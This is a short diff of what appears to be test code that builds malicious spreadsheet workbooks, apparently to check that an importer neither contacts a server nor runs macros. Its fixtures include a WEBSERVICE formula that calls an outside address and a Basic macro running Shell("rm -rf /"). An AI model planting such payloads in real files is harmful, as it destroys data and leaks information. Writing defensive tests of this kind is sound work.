@@ -149,7 +149,7 @@ export function binaryMacroWorkbook(address: string): Buffer {
   return xlsb(binarySheet(), [MACRO, ...externalLink(address)])
 }
 
-/** Builds all malicious workbooks. They refer to the server at `address`, which must not receive a request. */
+/** Builds all malicious workbooks. Some refer to the server at `address`, which must not receive a request. */
 export function hostileWorkbooks(address: string): HostileWorkbook[] {
   const linked = `<row>${cell('Köln')}<c><f>[1]Data!A1+WEBSERVICE("${address}/x")</f><v>5</v></c></row>`
   const basic = { name: 'Basic/Standard/Module1.xml', content: '<script:module>Shell("rm -rf /")</script:module>' }
